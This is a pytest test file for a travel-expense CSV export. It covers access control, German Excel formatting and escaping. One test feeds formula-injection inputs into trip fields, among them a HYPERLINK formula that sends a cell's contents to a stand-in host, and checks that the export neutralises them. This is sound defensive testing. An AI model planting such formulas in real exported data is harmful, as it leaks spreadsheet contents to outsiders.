import csv
import io

import pytest

from kvb.reisekosten.export import as_text

NOVEMBER = "/reisekosten/2025/11/"
EXPORT = f"{NOVEMBER}export.csv"
HEAD = ["Datum", "Von", "Nach", "Zweck", "Kilometer", "Erstattung (EUR)"]


def content(response) -> bytes:
    assert response.streaming
    return b"".join(response.streaming_content)


def rows(response) -> list[list[str]]:
    """As a German Excel reads it."""
    return list(csv.reader(io.StringIO(content(response).decode("utf-8-sig")), delimiter=";"))


@pytest.fixture
def export(as_anna, flags):
    flags(csv_export=True)
    return lambda: as_anna.get(EXPORT)


def test_without_the_flag_there_is_neither_button_nor_file(as_anna, flags):
    flags(csv_export=False)
    assert EXPORT not in as_anna.get(NOVEMBER).text
    assert as_anna.get(EXPORT).status_code == 404


def test_with_the_flag_the_month_links_to_the_file(as_anna, export):
    assert f'href="{EXPORT}"' in as_anna.get(NOVEMBER).text
    assert "Als CSV exportieren" in as_anna.get(NOVEMBER).text
    response = export()
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="reisekosten-2025-11.csv"'
    assert "no-store" in response["Cache-Control"]


def test_stranger_is_sent_to_the_login_whatever_the_flag_says(client, db, flags):
    for is_on in (True, False):
        flags(csv_export=is_on)
        assert client.get(EXPORT).url == f"/anmelden/?next={EXPORT}"


def test_file_has_mark_semicolons_and_decimal_commas(export, anna, drive):
    drive(anna, "2025-11-03", "1000.50", von="Köln")
    assert (
        content(export())
        == (
            "\ufeffDatum;Von;Nach;Zweck;Kilometer;Erstattung (EUR)\r\n"
            "03.11.2025;Köln;Bonn;Kunde;1000,50;300,15\r\n"
        ).encode()
    )


def test_file_has_the_own_trips_of_the_month_alone(export, anna, bert, drive):
    drive(anna, "2025-11-30", zweck="Messe")
    drive(anna, "2025-12-01", zweck="Folgemonat")
    drive(bert, "2025-11-03", zweck="Fremd")
    assert [row[3] for row in rows(export())] == ["Zweck", "Messe"]


def test_empty_month_is_a_file_with_a_heading(export):
    assert rows(export()) == [HEAD]


def test_semicolons_quotes_and_line_ends_stay_in_their_cell(export, anna, drive):
    purpose = 'Kunde; "Müller"\r\nund Söhne'
    drive(anna, zweck=purpose)
    assert rows(export())[1][3] == purpose


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://example.org?"&A1;"Beleg")',
        "+49 221 123",
        "-1+1",
        "@SUM(A1)",
        " =1+1",
        "\t=1+1",
        "\r=1",
        "\n=1",
        "＝1+1",
    ],
)
def test_what_looks_like_a_formula_is_text(export, anna, drive, text):
    drive(anna, zweck=text, von=text, nach=text)
    assert rows(export())[1][1:4] == [f"'{text}"] * 3


@pytest.mark.parametrize("text", ["Kunde", "A=B", "Köln-Deutz", "1+1", ""])
def test_other_text_stays_as_it_is(text):
    assert as_text(text) == text


@pytest.mark.parametrize("month", ["2025/13", "1999/1"])
def test_what_is_no_month_is_not_found(as_anna, flags, month):
    flags(csv_export=True)
    assert as_anna.get(f"/reisekosten/{month}/export.csv").status_code == 404


def test_only_reading_is_possible(as_anna, flags):
    flags(csv_export=True)
    assert as_anna.post(EXPORT).status_code == 405
    assert as_anna.head(EXPORT).status_code == 200
